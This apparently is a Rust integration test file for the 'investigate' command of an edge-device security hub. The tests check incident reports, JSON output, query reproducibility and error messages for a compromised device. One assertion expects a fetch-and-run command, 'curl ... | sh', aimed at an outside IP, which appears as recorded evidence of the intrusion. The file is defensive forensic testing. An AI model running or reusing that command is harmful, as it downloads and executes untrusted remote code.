//! `edgewarden-hub investigate` as a user runs it.
#![allow(clippy::unwrap_used, reason = "the helpers of tests are tests too")]

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

/// Rows of a device that was broken into, and of others.
const ROWS: &str = "../tests/fixtures/investigate/rows.jsonl";

fn hub(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_edgewarden-hub")).args(arguments).output().unwrap()
}

fn text(output: &[u8]) -> String {
    String::from_utf8(output.to_vec()).unwrap()
}

/// A store as somebody makes it for one case.
fn case(dir: &Path) -> String {
    let db = dir.join("case.db").to_str().unwrap().to_owned();
    let import = hub(&["import", "--db", &db, ROWS]);
    assert!(import.status.success(), "{}", text(&import.stderr));
    db
}

#[test]
fn a_device_is_reported_for_people_and_for_machines() {
    let dir = tempfile::tempdir().unwrap();
    let db = case(dir.path());
    let people = hub(&["investigate", "press-17", "--hub", "plant", "--db", &db]);
    let report = text(&people.stdout);
    assert!(people.status.success() && people.stderr.is_empty(), "{}", text(&people.stderr));
    assert!(report.contains("FINDINGS: 13 high"), "{report}");
    assert!(report.contains("sh -c 'curl -s http://203.0.113.66/x | sh'"), "{report}");
    assert!(!report.contains(|char: char| char.is_control() && char != '\n'), "{report:?}");
    let machines = hub(&["investigate", "press-17", "--db", &db, "--since", "1h", "--format", "json"]);
    let json: Value = serde_json::from_slice(&machines.stdout).unwrap();
    assert_eq!((&json["since"], &json["until"]), (&at("05:00:00"), &at("06:00:00")));
    assert!(json["notAnswered"].as_array().unwrap().iter().any(|one| one["because"] == "noData"));
}

fn at(time: &str) -> Value {
    Value::from(format!("2026-11-24T{time}.0000000Z"))
}

/// What a report says, somebody can ask himself: the same query gives the same rows.
#[test]
fn a_query_of_the_set_is_copied_and_asked() {
    let dir = tempfile::tempdir().unwrap();
    let db = case(dir.path());
    let query = fs::read_to_string("../packaging/hub/queries/new_listeners.kql").unwrap();
    let own = query.replace("YOUR_DEVICE_ID", "press-17").replace("YOUR_HUB_NAME", "Plant");
    let file = dir.path().join("own.kql");
    fs::write(&file, own.replace("ago(30d)", "datetime(2026-11-19)")).unwrap();
    let asked = hub(&["query", file.to_str().unwrap(), "--db", &db, "--format", "json"]);
    let asked: Value = serde_json::from_slice(&asked.stdout).unwrap();
    let report = hub(&["investigate", "press-17", "--db", &db, "--format", "json"]);
    let report: Value = serde_json::from_slice(&report.stdout).unwrap();
    let findings = report["findings"].as_array().unwrap();
    let found = findings.iter().find(|finding| finding["id"] == "new_listeners").unwrap();
    assert_eq!(found["rows"], asked);
    assert_eq!(asked[0]["LocalPort"], 23);
}

#[test]
fn what_cannot_be_reported_is_said_and_fails() {
    let dir = tempfile::tempdir().unwrap();
    let db = case(dir.path());
    let unknown = hub(&["investigate", "press-1", "--db", &db]);
    assert!(!unknown.status.success() && unknown.stdout.is_empty());
    let why = text(&unknown.stderr);
    assert!(why.contains("nothing from the device press-1; there is press-17, press-18, press-171"), "{why}");
    let since = hub(&["investigate", "press-17", "--db", &db, "--since", "soon"]);
    assert!(text(&since.stderr).contains("expected a time such as 30d"), "{}", text(&since.stderr));
}
